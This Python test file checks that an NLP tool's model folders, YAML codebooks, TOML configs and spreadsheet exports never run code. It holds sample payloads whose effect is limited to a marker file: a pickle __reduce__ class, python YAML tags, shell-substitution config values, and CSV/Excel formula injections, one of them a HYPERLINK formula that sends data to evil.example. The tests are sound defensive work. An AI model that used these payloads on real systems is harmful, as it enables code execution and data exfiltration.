"""Untrusted files: configs, codebooks and model folders a user was sent never run code (issue 9).

Already covered elsewhere (not repeated here): a ``.pkl`` in a model folder and a dict object
array in ``weights.npz`` (test_classifiers), ``!!python/object/apply`` in a codebook
(test_codebook_data), HTML escaping and formula-free report.xlsx (test_reporting), CSV cell
neutralisation (test_io). Each payload below would leave a marker file if it ever ran; the tests
first prove that the payload does run when loaded unsafely.
"""

from __future__ import annotations

import json
import pathlib
import pickle
import sys

import numpy as np
import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from nlp_integration import cli
from nlp_integration.codebook import SupervisedClassifier, load_codebook
from nlp_integration.config import load_settings
from nlp_integration.errors import ConfigError, ModelError
from nlp_integration.io import read_table, write_table


class Payload:
    """Unpickling this creates ``marker`` — the stand-in for arbitrary code execution."""

    def __init__(self, marker: pathlib.Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (pathlib.Path.touch, (pathlib.Path(self.marker),))


def _run_main(monkeypatch, capsys, *args: str) -> tuple[int, str]:
    monkeypatch.setattr(sys, "argv", ["nlp-integration", *args])
    with pytest.raises(SystemExit) as info:
        cli.main()
    return int(info.value.code or 0), capsys.readouterr().err.strip()


# ---------------------------------------------------------------------------------- models
@pytest.fixture()
def model_folder(tmp_path, hashing_embedder):
    texts = [f"{w} {i}" for i in range(6) for w in ("Kita fehlt im Viertel", "Miete zu hoch")]
    labels = ["kita", "miete"] * 6
    model = SupervisedClassifier(cv_folds=2).fit(hashing_embedder.encode(texts), texts, labels)
    folder = tmp_path / "model"
    model.save(folder, embedder_id=hashing_embedder.model_id)
    return folder


def test_pickled_weights_never_execute(model_folder, tmp_path):
    marker = tmp_path / "executed"
    weights = model_folder / "weights.npz"
    with np.load(weights) as npz:
        arrays = dict(npz)
    arrays["coef"] = np.array([Payload(marker)], dtype=object)
    np.savez(weights, **arrays)

    with pytest.raises(ModelError, match="cannot be read") as info:
        SupervisedClassifier.load(model_folder)
    assert not marker.exists()
    assert len(str(info.value).splitlines()) == 1
    with np.load(weights, allow_pickle=True) as npz:  # the payload is real: unsafe loading runs it
        npz["coef"]
    assert marker.exists()


@pytest.mark.parametrize("name", ["model.joblib", "classifier.pickle", "extra.PKL"])
def test_cli_refuses_model_folder_with_pickles(model_folder, tmp_path, monkeypatch, capsys, name):
    marker = tmp_path / "executed"
    (model_folder / name).write_bytes(pickle.dumps(Payload(marker)))
    pd.DataFrame({"text": ["Kita fehlt"]}).to_csv(tmp_path / "in.csv", index=False)
    code, message = _run_main(
        monkeypatch,
        capsys,
        "classify",
        str(tmp_path / "in.csv"),
        "--out",
        str(tmp_path / "out.csv"),
        "--model",
        str(model_folder),
        "--set",
        "embedding.backend=hashing",
    )
    assert code == 7
    assert "pickled files are refused" in message and len(message.splitlines()) == 1
    assert not marker.exists()
    assert not (tmp_path / "out.csv").exists()


def test_model_json_cannot_name_code(model_folder):
    """model.json is data: a class path or format it does not know is refused, not imported."""
    meta = json.loads((model_folder / "model.json").read_text(encoding="utf-8"))
    meta["format"] = "os.system"
    (model_folder / "model.json").write_text(json.dumps(meta), encoding="utf-8")
    with pytest.raises(ModelError):
        SupervisedClassifier.load(model_folder)


# -------------------------------------------------------------------------------- codebook
@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/new:pathlib.Path",
        "!!python/object:pathlib.Path",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!python/object/apply:os.mkdir",
    ],
)
def test_codebook_with_python_tags_is_refused(tmp_path, tag):
    marker = tmp_path / "executed"
    path = tmp_path / "codebook.yaml"
    body = f'version: "1.0"\nname: evil\nlabels:\n  - {tag} ["{marker}"]\n'
    path.write_text(body, encoding="utf-8")
    with pytest.raises(ConfigError, match="codebook.yaml") as info:
        load_codebook(path)
    assert len(str(info.value).splitlines()) == 1
    assert not marker.exists()
    if tag.endswith("mkdir"):  # the payload is real: an unsafe loader runs it
        yaml.unsafe_load(body)
        assert marker.exists()


# --------------------------------------------------------------------------------- configs
def test_toml_config_values_stay_data(tmp_path):
    marker = tmp_path / "executed"
    code = f"__import__('os').system('touch {marker}')"
    path = tmp_path / "config.toml"
    path.write_text(
        f'[report]\ntitle = "{code}"\n[input]\ntext_column = "$(touch {marker})"\n',
        encoding="utf-8",
    )
    settings = load_settings(path, environ={"NLP_INTEGRATION__REPORT__TITLE": f"`touch {marker}`"})
    assert settings.report.title == f"`touch {marker}`"  # the environment wins over the file
    assert settings.input.text_column == f"$(touch {marker})"
    assert not marker.exists()


@pytest.mark.parametrize(
    "content",
    [
        "seed = !!python/object/apply:os.system ['touch x']\n",
        "[__class__]\nx = 1\n",
        "[input]\n__dict__ = 1\n",
        "seed = \"__import__('os')\"\n",
    ],
)
def test_toml_config_cannot_reach_python_objects(tmp_path, content):
    path = tmp_path / "config.toml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_settings(path, environ={})
    assert len(str(info.value).splitlines()) == 1


# ------------------------------------------------------------------------ spreadsheets out
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_neutralises_formulas_in_cells_ids_and_column_names(tmp_path):
    frame = pd.DataFrame(
        {"id": ["=1+1", "k2", "k3", "k4", "k5", "k6", "k7"], "text": FORMULAS, FORMULAS[0]: 1}
    )
    path = write_table(frame, tmp_path / "out.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    cells = [raw.columns.tolist()] + raw.values.tolist()
    for value in (v for row in cells for v in row):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)
    assert raw["text"].tolist() == ["'" + f for f in FORMULAS]
    assert read_table(path)["id"].tolist()[0] == "'=1+1"


def test_xlsx_written_by_write_table_has_no_formula_cells(tmp_path):
    frame = pd.DataFrame({"text": FORMULAS, FORMULAS[0]: range(len(FORMULAS))})
    frame["category"] = pd.Categorical(["=1+1"] * len(FORMULAS))
    path = write_table(frame, tmp_path / "out.xlsx")
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) == (len(FORMULAS) + 1) * 3
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value.replace("\r", "\n") for c in cells if c.column == 1 and c.row > 1}
    # openpyxl keeps a CR with lxml installed and stores it as LF without it
    assert texts == {"'" + f.replace("\r", "\n") for f in FORMULAS}


@pytest.mark.slow  # imports transformers (~10 s); loads no real model
def test_sentence_transformer_folder_cannot_run_code(tmp_path):
    """A model folder given as ``embedding.model``: pickled weights and foreign module classes."""
    from nlp_integration.embedding import SentenceTransformerEmbedder

    marker = tmp_path / "executed"
    pickled = tmp_path / "pickled"
    pickled.mkdir()
    config = {"model_type": "bert", "hidden_size": 8, "num_hidden_layers": 1,
              "num_attention_heads": 1, "intermediate_size": 8, "vocab_size": 8}  # fmt: skip
    (pickled / "config.json").write_text(json.dumps(config), encoding="utf-8")
    (pickled / "vocab.txt").write_text("\n".join("[PAD] [UNK] [CLS] [SEP] [MASK] a b c".split()))
    (pickled / "pytorch_model.bin").write_bytes(pickle.dumps({"w": Payload(marker)}))
    foreign = tmp_path / "foreign"
    (foreign / "sub").mkdir(parents=True)
    modules = [{"idx": 0, "name": "0", "path": "sub", "type": "os.mkdir"}]
    (foreign / "modules.json").write_text(json.dumps(modules), encoding="utf-8")
    for folder in (pickled, foreign):
        with pytest.raises(ModelError, match="cannot be loaded") as info:
            SentenceTransformerEmbedder(model=str(folder)).encode(["Kita fehlt"])
        assert len(str(info.value).splitlines()) == 1
    assert not marker.exists()


@pytest.mark.parametrize("size", [0, 300])
def test_a_truncated_weights_file_is_a_model_error(model_folder, size):
    weights = model_folder / "weights.npz"
    weights.write_bytes(weights.read_bytes()[:size])
    with pytest.raises(ModelError, match="cannot be read"):
        SupervisedClassifier.load(model_folder)


def test_a_model_file_instead_of_its_folder_is_named(model_folder):
    with pytest.raises(ModelError, match="is a file"):
        SupervisedClassifier.load(model_folder / "model.json")
